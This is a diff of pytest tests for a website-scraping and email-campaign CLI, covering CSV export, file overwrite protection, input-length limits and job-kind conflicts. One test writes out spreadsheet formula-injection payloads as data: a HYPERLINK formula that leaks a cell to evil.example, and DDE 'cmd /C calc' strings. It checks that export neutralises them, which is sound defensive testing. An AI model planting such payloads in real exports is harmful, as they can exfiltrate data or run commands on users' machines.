@@ -7,11 +7,14 @@ import json
 import threading
 from pathlib import Path
 
+import boto3
 import pytest
 
 from outreach import task_store
 from outreach.task_ids import normalise_url, scrape_task_id
-from tests.support.aws import Resources
+from outreach.task_model import Kind
+from tests.support.aws import REGION, Resources
+from tests.support.email import planned
 from tests.unit.cli.conftest import OPERATOR, Run, as_json, aws_state, claim_task, fail_task, finish_task
 
 
@@ -79,9 +82,9 @@ def test_creating_from_the_same_file_twice_creates_nothing_twice(
     assert first["job_id"] == second["job_id"]
     assert (first["created"], second["created"], second["existing"]) == (300, 0, 300)
     assert task_store.job_counts(first["job_id"])["Pending"] == 300
-    assert [i for i in aws_state(resources)["items"] if '"job_counter"' in i or '"scrape"' in i] == [
-        i for i in after_first["items"] if '"job_counter"' in i or '"scrape"' in i
-    ]
+    assert [
+        i for i in aws_state(resources)["items"] if '"job_counter"' in i or '"kind": {"S": "scrape"}' in i
+    ] == [i for i in after_first["items"] if '"job_counter"' in i or '"kind": {"S": "scrape"}' in i]
 
 
 def test_job_create_dry_run_says_what_it_would_create_and_changes_nothing(
@@ -166,7 +169,101 @@ def test_job_export_writes_the_results_of_finished_tasks_as_jsonl_and_csv(
         table = list(csv.DictReader(handle))
     assert sorted(r["title"] for r in table) == ["Alpha", "Gamma"]
     assert {r["emails"] for r in table} == {"info@acme.example"}
-    assert {r["phones"] for r in table} == {"+4930583920;+4930583929 (fax)"}
+    assert {r["phones"] for r in table} == {"'+4930583920;+4930583929 (fax)"}  # a leading + is quoted
+
+
+def _finish_with(task_id: str, document: dict[str, object]) -> None:
+    """Finish ``task_id`` with ``document`` as its scraped result (a stranger's page, as stored)."""
+    from outreach.results import store_result
+
+    task = task_store.get_task(task_id)
+    assert task is not None
+    claimed = task_store.claim(task, message_id="m-1", receive_count=1, lease_seconds=300)
+    key = store_result(task.job_id, task.task_id, document)
+    task_store.finish(claimed, result_key=key, summary={"title": "x"})
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
+    "description": "+cmd|' /C calc'!A0",
+    "language": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "final_url": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+@pytest.mark.parametrize(
+    "start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "  ="]
+)
+def test_job_export_csv_puts_a_quote_before_every_cell_a_spreadsheet_would_evaluate(
+    run: Run, resources: Resources, tmp_path: Path, start: str
+) -> None:
+    [task_id] = _ids("jx", ["https://a.example"])
+    task_store.create_scrape_job("jx", ["https://a.example"])
+    document: dict[str, object] = {
+        **FORMULAS,
+        "title": f"{start}1+1",
+        "emails": [{"address": "@SUM(1+1)@evil.example"}],
+        "phones": [{"e164": "+4930583920", "kind": "phone"}],
+        "social_links": ["-x"],
+        "pages": [],
+    }
+    _finish_with(task_id, document)
+    as_json(run("--json", "job", "export", "jx", "--out", str(tmp_path / "out.csv")))
+    with (tmp_path / "out.csv").open(newline="") as handle:
+        [row] = list(csv.DictReader(handle))
+    assert row["title"] == f"'{start}1+1"
+    assert (row["description"], row["language"], row["final_url"]) == (
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'-2+3+cmd|' /C calc'!A0",
+    )
+    assert (row["emails"], row["phones"], row["social_links"]) == (
+        "'@SUM(1+1)@evil.example",
+        "'+4930583920",
+        "'-x",
+    )
+    assert (tmp_path / "out.csv").read_text().startswith('"task_id","result_key",')  # every field quoted
+    as_json(run("--json", "job", "export", "jx", "--out", str(tmp_path / "out.jsonl")))
+    [exact] = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
+    assert (exact["title"], exact["description"]) == (f"{start}1+1", FORMULAS["description"])
+
+
+def test_job_export_refuses_to_overwrite_an_existing_file_without_force(
+    run: Run, resources: Resources, tmp_path: Path
+) -> None:
+    ids = _ids("jo", ["https://a.example"])
+    task_store.create_scrape_job("jo", ["https://a.example"])
+    finish_task(ids[0], title="Alpha")
+    out = tmp_path / "out.csv"
+    out.write_text("the operator's own spreadsheet\n")
+    refused = run("--json", "job", "export", "jo", "--out", str(out))
+    assert refused.exit_code == 2, refused.output
+    assert f"{out} exists: give --force to overwrite it" in refused.stderr
+    assert out.read_text() == "the operator's own spreadsheet\n"
+    report = as_json(run("--json", "job", "export", "jo", "--out", str(out), "--force"))
+    assert report["exported"] == 1 and "Alpha" in out.read_text()
+
+
+def test_job_create_refuses_a_line_over_256_ki_characters_naming_it(run: Run, tmp_path: Path) -> None:
+    sites = tmp_path / "sites.txt"
+    sites.write_text("https://a.example\nhttps://b.example/" + "x" * 2_000_000 + "\n")
+    result = run("--json", "job", "create", "--file", str(sites))
+    assert result.exit_code == 2, result.output
+    assert f"{sites}: line 2 is longer than 262,144 characters, the most a line may have" in result.stderr
+    assert len(result.stdout) + len(result.stderr) < 2_000
+
+
+def test_job_create_reports_a_rejected_line_cut_to_200_characters_with_its_length(
+    run: Run, tmp_path: Path
+) -> None:
+    sites = tmp_path / "sites.csv"
+    sites.write_text("url\nhttps://a.example\nftp://" + "b" * 100_000 + ".example\n")
+    result = run("--json", "job", "create", "--file", str(sites))
+    assert result.exit_code == 2, result.output
+    [bad] = json.loads(result.stdout)["invalid"]
+    assert bad["line"] == 3
+    assert bad["value"] == "ftp://" + "b" * 194 + "… (100,014 characters)"
+    assert len(bad["reason"]) <= 500 + len("… (999,999 characters)")
 
 
 def test_job_cancel_moves_open_tasks_to_cancelled_and_leaves_terminal_ones(
@@ -248,3 +345,92 @@ def test_without_json_the_commands_print_tables_for_a_person(
     assert cancelled.exit_code == 0 and "would cancel 1 tasks" in cancelled.stdout
     shown = run("dlq", "show", "scrape")
     assert shown.exit_code == 0 and "0 messages in the scrape DLQ" in shown.stdout
+
+
+def test_job_cancel_on_a_campaign_leaves_an_email_being_sent_and_says_how_many_it_skipped(
+    run: Run, resources: Resources
+) -> None:
+    # GIVEN a campaign's two emails: one Pending, one a worker has claimed and is sending
+    emails = [planned("a@example.org", campaign="spring"), planned("b@example.org", campaign="spring")]
+    task_store.create_email_tasks(emails)
+    waiting, sending = (e.task_id for e in emails)
+    claimed = task_store.get_task(sending)
+    assert claimed is not None
+    task_store.claim_email(claimed, owner="invocation-1", lease_seconds=3600)
+    # WHEN the operator cancels the campaign's id as a job
+    report = as_json(run("--json", "job", "cancel", "spring"))
+    # THEN the Pending email is cancelled, the one being sent is left Running, and it is counted
+    assert (report["cancelled"], report["skipped_being_sent"]) == ([waiting], [sending])
+    left = task_store.get_task(sending)
+    assert left is not None and left.status.value == "Running"
+    human = run("job", "cancel", "spring")
+    assert human.exit_code == 0
+    assert "skipped 1 email tasks that are Running" in human.stdout
+
+
+def _put_legacy_job_row(resources: Resources, job_id: str, source: str) -> None:
+    """A job row as ``record_job`` wrote it before ``job_kind`` existed."""
+    boto3.client("dynamodb", region_name=REGION).put_item(
+        TableName=resources.table,
+        Item={
+            "task_id": {"S": f"job#{job_id}"},
+            "kind": {"S": "job"},
+            "job_id": {"S": job_id},
+            "created_at": {"S": "2026-11-01T08:00:00Z"},
+            "created_by": {"S": "someone"},
+            "updated_at": {"S": "2026-11-01T08:00:00Z"},
+            "source": {"S": source},
+            "task_count": {"N": "2"},
+        },
+    )
+
+
+def test_a_job_id_that_is_a_campaign_is_refused_for_a_scrape_job_and_nothing_is_written(
+    run: Run, resources: Resources, tmp_path: Path
+) -> None:
+    # GIVEN campaign "shared" as `campaign schedule` recorded it (before job_kind: its source names
+    # its recipients)
+    _put_legacy_job_row(resources, "shared", "c.yaml sha256:ab; recipients r.csv sha256:cd")
+    sites = tmp_path / "s.txt"
+    sites.write_text("https://a.example\n")
+    before = aws_state(resources)
+    # WHEN a scrape job is created with the same id (dry run and real)
+    for extra in (["--dry-run"], []):
+        result = run("--json", "job", "create", "--file", str(sites), "--job-id", "shared", *extra)
+        # THEN it is refused (exit 2) naming the other kind, and nothing at all is written
+        assert result.exit_code == 2, result.output
+        assert "is already a campaign" in result.stderr and "nothing written" in result.stderr
+    assert aws_state(resources) == before
+
+
+def test_a_campaign_id_equal_to_a_scrape_job_id_is_refused_by_the_task_store(
+    run: Run, resources: Resources, tmp_path: Path
+) -> None:
+    # GIVEN scrape job "shared"
+    sites = tmp_path / "s.txt"
+    sites.write_text("https://a.example\n")
+    as_json(run("--json", "job", "create", "--file", str(sites), "--job-id", "shared"))
+    row = task_store.get_job("shared")
+    assert row is not None and row["job_kind"] == "scrape"
+    # WHEN a campaign is recorded with the same id
+    with pytest.raises(task_store.JobKindConflict, match="already a scrape job"):
+        task_store.record_job(
+            "shared", kind=Kind.EMAIL, source="c.yaml sha256:ab; recipients r.csv", tasks=9, created_by="x"
+        )
+    # THEN the scrape job's row is as it was (source and count not overwritten)
+    assert task_store.get_job("shared") == row
+
+
+def test_a_job_row_written_before_job_kind_keeps_the_kind_its_source_shows(
+    run: Run, resources: Resources, tmp_path: Path
+) -> None:
+    # GIVEN a scrape job recorded before job_kind
+    _put_legacy_job_row(resources, "old", "sites.csv sha256:ab")
+    # THEN a campaign may not take its id, and the scrape job's re-run stamps its kind
+    with pytest.raises(task_store.JobKindConflict):
+        task_store.record_job("old", kind=Kind.EMAIL, source="c; recipients r", tasks=1, created_by="x")
+    sites = tmp_path / "s.txt"
+    sites.write_text("https://a.example\n")
+    as_json(run("--json", "job", "create", "--file", str(sites), "--job-id", "old"))
+    row = task_store.get_job("old")
+    assert row is not None and (row["job_kind"], row["created_by"]) == ("scrape", "someone")
